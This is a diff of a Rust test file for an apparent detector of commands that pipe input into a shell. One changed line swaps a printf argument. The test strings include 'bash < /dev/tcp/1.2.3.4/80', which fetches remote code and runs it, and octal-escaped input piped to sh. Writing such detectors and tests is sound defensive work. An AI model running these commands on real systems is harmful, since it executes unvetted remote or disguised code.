@@ -56,7 +56,7 @@ fn what_feeds_an_interpreter_is_found() {
     // Nobody knows what would run, so someone is asked.
     let lines = [
         "{ echo ls; echo ls; } | bash",
-        "printf '%s' ls | sh",
+        "printf '%x' 255 | sh",
         "printf 'l\\163' | sh",
         "bash < /dev/tcp/1.2.3.4/80",
         "bash < script.sh",
